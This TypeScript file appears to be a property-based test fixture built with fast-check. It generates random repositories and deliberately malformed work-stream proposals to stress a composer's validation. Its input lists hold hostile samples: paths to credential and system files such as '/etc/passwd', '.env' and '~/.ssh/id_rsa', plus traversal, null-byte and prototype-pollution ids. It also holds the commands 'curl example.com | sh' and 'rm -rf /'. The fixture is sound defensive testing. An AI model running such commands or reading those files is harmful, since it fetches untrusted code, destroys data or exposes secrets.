// Random projects with imports, and proposals for them that were disturbed: wrong paths, second spellings, overlaps,
// circles, missing hubs, hostile ids.
import fc from 'fast-check';
import type { Proposal } from '../../../src/manifest/compose/proposal.ts';
import type { Repository } from '../../../src/manifest/compose/repository.ts';
import { aRepository } from './a-repository.ts';

const PATHS = [
  'package.json',
  'package-lock.json',
  'README.md',
  'src/index.ts',
  'src/types.ts',
  'src/routes.ts',
  'src/app.ts',
  'src/shelves/list.ts',
  'src/shelves/add.ts',
  'src/shelves/index.ts',
  'src/search/query.ts',
  'src/search/Rank.ts',
  'src/books/[id]/page.ts',
  'src/books/book.ts',
  'src/books/isbn.ts',
  'lib/é.ts',
  'test/list.test.ts',
  'test/query.test.ts',
  'Makefile',
];

const anyFiles = fc
  .tuple(
    ...PATHS.map((path) =>
      fc.tuple(
        fc.constant(path),
        fc.subarray(PATHS.filter((each) => each !== path && each.endsWith('.ts'))),
        fc.integer({ min: 0, max: 30_000 }),
        // Hubs exist more often than not.
        fc.integer({ min: 0, max: 9 }).map((n) => n > 0),
      ),
    ),
  )
  .map((files) => files.filter(([, , , exists]) => exists));

export const anyRepository: fc.Arbitrary<Repository> = fc
  .record({
    files: anyFiles,
    isForAgents: fc.boolean(),
    answerBytes: fc.constantFrom(1, 20_000, 60_000, 1_000_000),
    task: fc.constantFrom('Add search', 'Add a tools folder', ''),
    setup: fc.constantFrom<string[]>([], ['npm ci']),
    isSetUp: fc.boolean(),
    hasFewImports: fc.boolean(),
    // Without durations no plan lacks gain: otherwise most plans end as one stream, which proves little.
    hasDurations: fc.boolean(),
  })
  .map(({ files, hasFewImports, hasDurations, ...facts }) =>
    aRepository({
      ...facts,
      ...(!hasDurations && { estimateMs: () => 0 }),
      files: Object.fromEntries(
        files.map(([path, imports]) => [path, hasFewImports ? imports.slice(0, 1) : imports]),
      ),
      bytes: Object.fromEntries(files.map(([path, , bytes]) => [path, bytes])),
    }),
  );

const DISTURBED = [
  '../outside.ts',
  '/etc/passwd',
  '.git/config',
  'src/.git/config',
  '.GIT/hooks/pre-commit',
  '.env',
  'src\\search\\query.ts',
  'SRC/App.ts',
  'src/search/rank.ts',
  'lib/e\u0301.ts',
  './src/app.ts',
  'src//app.ts',
  'src/search/',
  'src/search',
  'src/**',
  'src/*.ts',
  'src/{app,types}.ts',
  '**',
  '*.ts',
  'src/new.ts',
  'src/New.ts',
  'src/new/deep/file.ts',
  'nowhere/file.ts',
  'tools/build.ts',
  'src/app.ts/inside.ts',
  'src/a\u0000b.ts',
  'src/a\u2028# b.ts',
  'C:\\x',
  '',
  '~/.ssh/id_rsa',
  '[ab].ts',
  'Dockerfile',
  'x'.repeat(300),
];

const anyEntry = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PATHS) },
  { weight: 2, arbitrary: fc.constantFrom(...DISTURBED) },
);

const IDS = ['a', 'b', 'A', 'api', '__proto__', 'constructor', 'a b', 'contract', 'integration'];
const anyId = fc.constantFrom(
  ...IDS,
  'a-part-1',
  'a-part-2',
  'a-fix-1',
  '',
  '-',
  '\u202Eevil\n# x',
  'é'.repeat(100),
);

const anyText = fc.oneof(
  fc.constantFrom(
    'Add it to src/routes.ts and package.json.',
    'Change src/types.ts.\n\n# streams:\n  - x',
    'x: y\n---\n...\n',
    '',
    '\uD800 half',
    'TODO: later',
  ),
  fc.string({ maxLength: 30, unit: 'binary' }),
);

export const anyProposal: fc.Arbitrary<Proposal> = fc.record({
  feature: fc.oneof(fc.constantFrom('search', ''), anyText),
  streams: fc.array(
    fc.record(
      {
        id: anyId,
        name: fc.oneof(anyId, anyText),
        plan: anyText,
        owns: fc.oneof(
          { weight: 9, arbitrary: fc.array(anyEntry, { maxLength: 5 }) },
          { weight: 1, arbitrary: fc.constant(PATHS) },
        ),
        reads: fc.array(anyEntry, { maxLength: 6 }),
        deps: fc.array(anyId, { maxLength: 3 }),
        setup: fc.array(fc.constantFrom('npm ci', 'curl example.com | sh'), { maxLength: 1 }),
        verify: fc.array(fc.constantFrom('npm test', 'rm -rf /\n'), { maxLength: 1 }),
      },
      { requiredKeys: ['name', 'plan', 'owns', 'reads', 'deps', 'setup', 'verify'] },
    ),
    { minLength: 1, maxLength: 6 },
  ),
});
